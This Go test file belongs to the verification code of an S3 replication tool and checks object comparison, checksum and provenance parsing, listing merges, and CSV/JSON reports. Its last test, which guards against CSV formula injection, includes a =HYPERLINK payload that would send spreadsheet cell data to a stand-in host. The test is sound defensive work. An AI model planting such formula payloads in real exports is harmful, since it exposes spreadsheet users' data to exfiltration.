package verify

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"hash/crc32"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	s3types "github.com/aws/aws-sdk-go-v2/service/s3/types"

	"github.com/xrc-dev/xrc/internal/config"
)

func sha(s string) []byte { b := sha256.Sum256([]byte(s)); return b[:] }

func crc32c(s string) []byte {
	return binary.BigEndian.AppendUint32(nil, crc32.Checksum([]byte(s), crc32.MakeTable(crc32.Castagnoli)))
}

func TestCompare(t *testing.T) {
	t0 := time.Date(2026, 12, 1, 10, 0, 0, 0, time.UTC)
	prov := func(mod time.Time, version string, sum []byte) *Provenance {
		return &Provenance{Archive: "a1", Modified: mod, Version: version, SHA256: sum}
	}
	for _, tc := range []struct {
		name  string
		src   Source
		dst   Destination
		kind  Kind
		equal bool
	}{
		{"not xrc, same size", Source{Size: 5}, Destination{Size: 5}, NotXRC, false},
		{"not xrc, other size", Source{Size: 5}, Destination{Size: 6}, Size, false},
		{"not xrc, equal digests still not vouched for", Source{Size: 5, Sums: Sums{SHA256: sha("x")}},
			Destination{Size: 5, Sums: Sums{SHA256: sha("x")}}, NotXRC, false},
		{"older write", Source{Size: 5, Modified: t0.Add(time.Second)}, Destination{Size: 5, Provenance: prov(t0, "", nil)}, Stale, false},
		{"older write explains the size", Source{Size: 7, Modified: t0.Add(time.Hour)}, Destination{Size: 5, Provenance: prov(t0, "", nil)}, Stale, false},
		// A listing's milliseconds against xrc-mtime from HeadObject's
		// whole seconds: the same write.
		{"same second, listing has milliseconds", Source{Size: 5, Modified: t0.Add(640 * time.Millisecond)},
			Destination{Size: 5, Provenance: prov(t0, "", nil)}, "", false},
		{"newer destination, unversioned", Source{Size: 5, Modified: t0}, Destination{Size: 5, Provenance: prov(t0.Add(time.Hour), "", nil)}, "", false},
		{"other version", Source{Size: 5, Modified: t0, VersionID: "v2"}, Destination{Size: 5, Provenance: prov(t0, "v1", nil)}, Stale, false},
		{"newer version at the destination", Source{Size: 5, Modified: t0, VersionID: "v1"}, Destination{Size: 5, Provenance: prov(t0.Add(time.Hour), "v2", nil)}, Stale, false},
		{"same version", Source{Size: 5, Modified: t0.Add(time.Hour), VersionID: "v1"}, Destination{Size: 5, Provenance: prov(t0, "v1", nil)}, "", false},
		{"size", Source{Size: 5, Modified: t0}, Destination{Size: 4, Provenance: prov(t0, "", nil)}, Size, false},
		{"no mtime: size still counts", Source{Size: 5, Modified: t0}, Destination{Size: 4, Provenance: prov(time.Time{}, "", nil)}, Size, false},
		// xrc-sha256 is metadata S3 never checks: it can show bytes differ,
		// not prove them equal.
		{"source SHA256 = xrc-sha256: unchecked", Source{Size: 5, Modified: t0, Sums: Sums{SHA256: sha("hello")}},
			Destination{Size: 5, Provenance: prov(t0, "", sha("hello")), Sums: Sums{CRC32C: crc32c("hello")}}, "", false},
		{"xrc-sha256 kept over other bytes", Source{Size: 5, Modified: t0, Sums: Sums{SHA256: sha("hello")}, Computed: Sums{CRC32C: crc32c("hello")}},
			Destination{Size: 5, Provenance: prov(t0, "", sha("hello")), Sums: Sums{CRC32C: crc32c("jello")}}, Digest, false},
		{"source SHA256 != xrc-sha256", Source{Size: 5, Modified: t0, Sums: Sums{SHA256: sha("jello")}},
			Destination{Size: 5, Provenance: prov(t0, "", sha("hello")), Sums: Sums{CRC32C: crc32c("hello")}}, Digest, false},
		{"source SHA256 != destination S3 SHA256", Source{Size: 5, Modified: t0, Sums: Sums{SHA256: sha("hello")}},
			Destination{Size: 5, Provenance: prov(t0, "", nil), Sums: Sums{SHA256: sha("jello")}}, Digest, false},
		{"destination bytes not those xrc wrote", Source{Size: 5, Modified: t0},
			Destination{Size: 5, Provenance: prov(t0, "", sha("hello")), Sums: Sums{SHA256: sha("jello")}}, Digest, false},
		{"CRC32C in common", Source{Size: 5, Modified: t0, Sums: Sums{CRC32C: crc32c("hello")}},
			Destination{Size: 5, Provenance: prov(t0, "", nil), Sums: Sums{CRC32C: crc32c("hello")}}, "", true},
		{"CRC32C differs", Source{Size: 5, Modified: t0, Sums: Sums{CRC32C: crc32c("hello")}},
			Destination{Size: 5, Provenance: prov(t0, "", nil), Sums: Sums{CRC32C: crc32c("jello")}}, Digest, false},
		{"nothing in common: unchecked", Source{Size: 5, Modified: t0, Sums: Sums{CRC32: []byte{1, 2, 3, 4}}},
			Destination{Size: 5, Provenance: prov(t0, "", sha("hello"))}, "", false},
		{"computed SHA256 = xrc-sha256: unchecked", Source{Size: 5, Modified: t0, Computed: Sums{SHA256: sha("hello")}},
			Destination{Size: 5, Provenance: prov(t0, "", sha("hello"))}, "", false},
		{"computed CRC32C = destination's", Source{Size: 5, Modified: t0, Sums: Sums{SHA256: sha("hello")}, Computed: Sums{CRC32C: crc32c("hello")}},
			Destination{Size: 5, Provenance: prov(t0, "", sha("hello")), Sums: Sums{CRC32C: crc32c("hello")}}, "", true},
		{"computed CRC32C differs", Source{Size: 5, Modified: t0, Computed: Sums{CRC32C: crc32c("jello")}},
			Destination{Size: 5, Provenance: prov(t0, "", nil), Sums: Sums{CRC32C: crc32c("hello")}}, Digest, false},
		{"headers: Content-Type", Source{Size: 5, Modified: t0, Sums: Sums{CRC32C: crc32c("hello")}, Head: &Head{ContentType: "text/csv"}},
			Destination{Size: 5, Provenance: prov(t0, "", nil), Sums: Sums{CRC32C: crc32c("hello")}, Head: &Head{ContentType: "text/plain"}}, Headers, true},
		{"headers: no Content-Type at the source takes the store's", Source{Size: 5, Modified: t0, Head: &Head{}},
			Destination{Size: 5, Provenance: prov(t0, "", nil), Head: &Head{ContentType: "binary/octet-stream"}}, "", false},
		{"headers: user metadata lost", Source{Size: 5, Modified: t0, Head: &Head{Metadata: map[string]string{"owner": "me"}}},
			Destination{Size: 5, Provenance: prov(t0, "", nil), Head: &Head{Metadata: map[string]string{}}}, Headers, false},
		{"headers: user metadata added", Source{Size: 5, Modified: t0, Head: &Head{}},
			Destination{Size: 5, Provenance: prov(t0, "", nil), Head: &Head{Metadata: map[string]string{"owner": "me"}}}, Headers, false},
		{"headers: tags", Source{Size: 5, Modified: t0, Head: &Head{Tags: 3}},
			Destination{Size: 5, Provenance: prov(t0, "", nil), Head: &Head{Tags: 2}}, Headers, false},
		{"headers: Expires as a time", Source{Size: 5, Modified: t0, Head: &Head{Expires: "Thu, 01 Dec 2026 16:00:00 GMT"}},
			Destination{Size: 5, Provenance: prov(t0, "", nil), Head: &Head{Expires: "Tue, 01 Dec 2026 16:00:00 GMT"}}, "", false},
		{"headers: Expires differs", Source{Size: 5, Modified: t0, Head: &Head{Expires: "Tue, 01 Dec 2026 16:00:00 GMT"}},
			Destination{Size: 5, Provenance: prov(t0, "", nil), Head: &Head{}}, Headers, false},
		{"headers: Expires no date, as is", Source{Size: 5, Modified: t0, Head: &Head{Expires: "0"}},
			Destination{Size: 5, Provenance: prov(t0, "", nil), Head: &Head{Expires: "0"}}, "", false},
		{"headers: Expires no date, dropped", Source{Size: 5, Modified: t0, Head: &Head{Expires: "0"}},
			Destination{Size: 5, Provenance: prov(t0, "", nil), Head: &Head{}}, Headers, false},
		{"headers: website redirect dropped", Source{Size: 5, Modified: t0, Head: &Head{WebsiteRedirect: "/new"}},
			Destination{Size: 5, Provenance: prov(t0, "", nil), Head: &Head{}}, Headers, false},
		{"headers: a digest difference comes first", Source{Size: 5, Modified: t0, Sums: Sums{CRC32C: crc32c("hello")}, Head: &Head{ContentType: "a"}},
			Destination{Size: 5, Provenance: prov(t0, "", nil), Sums: Sums{CRC32C: crc32c("jello")}, Head: &Head{ContentType: "b"}}, Digest, false},
		{"one digest equal, another differs", Source{Size: 5, Modified: t0, Sums: Sums{CRC32C: crc32c("hello")}, Computed: Sums{SHA256: sha("jello")}},
			Destination{Size: 5, Provenance: prov(t0, "", sha("hello")), Sums: Sums{CRC32C: crc32c("hello")}}, Digest, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			v := Compare(tc.src, tc.dst)
			if v.Kind != tc.kind || v.Equal != tc.equal {
				t.Errorf("Compare = %+v, want kind %q equal %v", v, tc.kind, tc.equal)
			}
			if (v.Kind != "" || v.Equal) && v.Detail == "" {
				t.Errorf("verdict %+v says nothing about why", v)
			}
		})
	}
}

func TestHashable(t *testing.T) {
	dst := Destination{Size: 9, Provenance: &Provenance{Archive: "a", SHA256: sha("x")}, Sums: Sums{CRC32C: crc32c("x"), XXHASH3: make([]byte, 8)}}
	if got := hashable(Source{Sums: Sums{CRC32: make([]byte, 4)}}, dst); !slices.Equal(got, []Algorithm{CRC32C, SHA256}) {
		t.Errorf("hashable = %v, want CRC32C and SHA256 (XXHASH3 is not computed)", got)
	}
	if got := hashable(Source{Sums: Sums{SHA256: sha("x")}}, dst); !slices.Equal(got, []Algorithm{CRC32C}) {
		t.Errorf("hashable = %v, want only what the source's S3 checksums lack", got)
	}
}

func TestParseChecksums(t *testing.T) {
	b64 := func(b []byte) *string { return aws.String(base64.StdEncoding.EncodeToString(b)) }
	s := ParseChecksums(ChecksumHeaders{Type: s3types.ChecksumTypeFullObject, Values: map[Algorithm]*string{
		SHA256: b64(sha("a")), CRC32C: b64(crc32c("a")), CRC32: aws.String("not base64!"), SHA1: b64([]byte{1, 2}), // wrong length
		CRC64NVME: nil,
	}})
	if len(s) != 2 || !bytes.Equal(s[SHA256], sha("a")) || !bytes.Equal(s[CRC32C], crc32c("a")) {
		t.Errorf("ParseChecksums = %v, want the SHA256 and CRC32C only", s)
	}
	// A composite checksum is a digest of part digests: no statement
	// about the bytes.
	if s := ParseChecksums(ChecksumHeaders{Type: s3types.ChecksumTypeComposite, Values: map[Algorithm]*string{SHA256: b64(sha("a"))}}); s != nil {
		t.Errorf("composite checksum parsed: %v", s)
	}
	// AWS writes a composite value with its part count.
	if s := ParseChecksums(ChecksumHeaders{Values: map[Algorithm]*string{SHA256: aws.String(*b64(sha("a")) + "-3")}}); s != nil {
		t.Errorf("composite value parsed: %v", s)
	}
}

func TestParseProvenance(t *testing.T) {
	// A source's own xrc- keys reach a destination renamed: only xrc's
	// keys mark its writes.
	if _, ok := ParseProvenance(map[string]string{"owner": "etl", "xrc-orig-seq": "00FF"}, ""); ok {
		t.Error("metadata without xrc's keys taken as written by xrc")
	}
	// Any of them does: the metadata budget may have dropped the archive id.
	if p, ok := ParseProvenance(map[string]string{"xrc-seq": "00FF", "xrc-sha256": hex.EncodeToString(sha("a"))}, ""); !ok || p.Sequencer != "00FF" || p.Archive != "" {
		t.Errorf("xrc's write without its archive id: %+v, %v", p, ok)
	}
	p, ok := ParseProvenance(map[string]string{"xrc-archive": "a1", "xrc-seq": "00FF", "xrc-version": "v1",
		"xrc-mtime": "1764583200000", "xrc-sha256": hex.EncodeToString(sha("a"))}, "")
	if !ok || p.Sequencer != "00FF" || p.Version != "v1" || !p.Modified.Equal(time.UnixMilli(1764583200000)) || !bytes.Equal(p.SHA256, sha("a")) {
		t.Errorf("ParseProvenance = %+v, %v", p, ok)
	}
	p, ok = ParseProvenance(map[string]string{"xrc-archive": "a1", "xrc-mtime": "-5", "xrc-sha256": "abcd"}, "")
	if !ok || !p.Modified.IsZero() || p.SHA256 != nil {
		t.Errorf("malformed values trusted: %+v", p)
	}
}

func TestRoot(t *testing.T) {
	rule := &config.Rule{ID: "r", Prefix: "data/"}
	for _, tc := range []struct{ prefix, want string }{
		{"", "data/"}, {"da", "data/"}, {"data/", "data/"}, {"data/2026/", "data/2026/"}, {"logs/", ""},
	} {
		got, err := Root(rule, tc.prefix)
		if got != tc.want || (err != nil) != (tc.want == "") {
			t.Errorf("Root(%q) = %q, %v; want %q", tc.prefix, got, err, tc.want)
		}
	}
}

// TestMappingKeepsOrder holds what the listing merge relies on: a rule
// maps keys by replacing a prefix, so the destination keys of a level are
// its prefix's destination key plus the same names.
func TestMappingKeepsOrder(t *testing.T) {
	for _, d := range []config.Destination{{}, {Prefix: aws.String("")}, {Prefix: aws.String("copy/")}, {Prefix: aws.String("x")}} {
		rule := &config.Rule{Prefix: "data/", Destinations: []config.Destination{d}}
		for _, level := range []string{"data/", "data/a/", "data/ü/日本/"} {
			for _, name := range []string{"", "k", "with space", "z/"} {
				if got, want := rule.DestinationKey(d, level+name), rule.DestinationKey(d, level)+name; got != want {
					t.Errorf("prefix %v: DestinationKey(%q) = %q, want %q", d.Prefix, level+name, got, want)
				}
			}
		}
	}
}

func TestCursorMerge(t *testing.T) {
	c := &cursor{prefix: "p/"}
	page := &s3.ListObjectsV2Output{
		Contents:       []s3types.Object{{Key: aws.String("p/a")}, {Key: aws.String("p/b/")}, {Key: aws.String("p/c"), Size: aws.Int64(3)}, {Key: aws.String("q")}},
		CommonPrefixes: []s3types.CommonPrefix{{Prefix: aws.String("p/a/")}, {Prefix: aws.String("p/bb/")}},
	}
	var got []string
	for _, e := range c.merge(page) {
		if e.dir {
			got = append(got, e.name+"(dir)")
		} else {
			got = append(got, e.name)
		}
	}
	if want := []string{"a", "a/(dir)", "b/", "bb/(dir)", "c"}; !slices.Equal(got, want) {
		t.Errorf("merge = %v, want %v", got, want)
	}
}

func TestReports(t *testing.T) {
	size := int64(5)
	mod := time.Date(2026, 12, 1, 10, 0, 0, 0, time.UTC)
	ds := []Difference{
		{Kind: Missing, Region: "eu-west-1", SourceBucket: "s", SourceKey: "k,1", DestinationBucket: "d", DestinationKey: "k,1", SourceSize: &size, SourceModified: &mod},
		{Kind: Extra, Region: "eu-west-1", SourceBucket: "s", SourceKey: "x\n", DestinationBucket: "d", DestinationKey: "x\n", DestinationSize: &size, WrittenByXRC: true, Detail: "gone"},
	}
	sum := Summary{Rule: "r", Destinations: []DestinationSummary{{Region: "eu-west-1", Counts: map[Kind]int64{Missing: 1, Extra: 1}}}}

	var cb bytes.Buffer
	cr, err := NewCSVReport(&cb)
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range ds {
		if err := cr.Add(d); err != nil {
			t.Fatal(err)
		}
	}
	if err := cr.Close(sum); err != nil {
		t.Fatal(err)
	}
	const csvHeaderLine = "kind,region,source_bucket,source_key,destination_bucket,destination_key,source_size,destination_size,source_modified,replicated_modified,written_by_xrc,detail\n"
	want := csvHeaderLine +
		"missing,eu-west-1,s,\"k,1\",d,\"k,1\",5,,2026-12-01T10:00:00Z,,false,\n" +
		"extra,eu-west-1,s,\"x\n\",d,\"x\n\",,5,,,true,gone\n"
	if cb.String() != want {
		t.Errorf("CSV:\n%s\nwant:\n%s", cb.String(), want)
	}
	// A run that stopped early says so in the CSV too: a header alone
	// would read as no differences.
	cb.Reset()
	if cr, err = NewCSVReport(&cb); err != nil {
		t.Fatal(err)
	}
	if err := cr.Close(Summary{Rule: "r", Error: "listing s3://s: AccessDenied"}); err != nil {
		t.Fatal(err)
	}
	if want := csvHeaderLine + "incomplete,,,,,,,,,,,listing s3://s: AccessDenied\n"; cb.String() != want {
		t.Errorf("CSV of a stopped run:\n%s\nwant:\n%s", cb.String(), want)
	}

	for _, n := range []int{0, 2} {
		var jb bytes.Buffer
		jr, err := NewJSONReport(&jb)
		if err != nil {
			t.Fatal(err)
		}
		for _, d := range ds[:n] {
			if err := jr.Add(d); err != nil {
				t.Fatal(err)
			}
		}
		if err := jr.Close(sum); err != nil {
			t.Fatal(err)
		}
		var doc struct {
			Differences []Difference `json:"differences"`
			Summary     Summary      `json:"summary"`
		}
		if err := json.Unmarshal(jb.Bytes(), &doc); err != nil {
			t.Fatalf("JSON report of %d differences is not JSON: %v\n%s", n, err, jb.String())
		}
		if len(doc.Differences) != n || doc.Summary.Differences() != 2 {
			t.Errorf("JSON report: %d differences, summary %+v", len(doc.Differences), doc.Summary)
		}
		if n > 0 && (doc.Differences[1].SourceKey != "x\n" || *doc.Differences[0].SourceSize != 5 || doc.Differences[0].DestinationSize != nil) {
			t.Errorf("JSON differences: %+v", doc.Differences)
		}
	}
}

func TestTagsDiffer(t *testing.T) {
	for _, tt := range []struct {
		src, dst map[string]string
		want     string
	}{
		{map[string]string{"a": "1", "b": "2"}, map[string]string{"b": "2", "a": "1"}, ""},
		{nil, map[string]string{}, ""},
		{map[string]string{"a": "1", "b": "2"}, map[string]string{"a": "1", "b": "3"}, `tag "b": source "2", destination "3"`},
		{map[string]string{"a": "1"}, map[string]string{"b": "1"}, `tag "a": source "1", destination absent`},
		{map[string]string{}, map[string]string{"scan": "clean"}, `tag "scan": not at the source, destination "clean"`},
	} {
		if got := tagsDiffer(tt.src, tt.dst); got != tt.want {
			t.Errorf("tagsDiffer(%v, %v) = %q, want %q", tt.src, tt.dst, got, tt.want)
		}
	}
}

// TestCSVKeysAreNotFormulas: a key a spreadsheet would take for a formula
// (anyone may name one =HYPERLINK(...)) is written as text.
func TestCSVKeysAreNotFormulas(t *testing.T) {
	var b bytes.Buffer
	r, err := NewCSVReport(&b)
	if err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{`=HYPERLINK("http://x/?"&A1,"click")`, "@SUM(1)", "+1", "-1", "plain"} {
		if err := r.Add(Difference{Kind: Missing, SourceKey: k, DestinationKey: k}); err != nil {
			t.Fatal(err)
		}
	}
	if err := r.Close(Summary{}); err != nil {
		t.Fatal(err)
	}
	for _, line := range bytes.Split(b.Bytes(), []byte("\n"))[1:] {
		for _, cell := range bytes.Split(line, []byte(",")) {
			cell = bytes.TrimPrefix(cell, []byte(`"`))
			if len(cell) > 0 && bytes.ContainsAny(cell[:1], "=+-@") {
				t.Errorf("cell %s of %q starts a formula", cell, line)
			}
		}
	}
	if !bytes.Contains(b.Bytes(), []byte(",plain,")) {
		t.Error("a plain key changed")
	}
	// Dropping one leading ' gives every key back, so -x and '-x differ.
	for _, k := range []string{"-x", "'-x", "'abc", "=1"} {
		if got := strings.TrimPrefix(textCell(k), "'"); got != k {
			t.Errorf("%q written as %q, read back as %q", k, textCell(k), got)
		}
	}
}
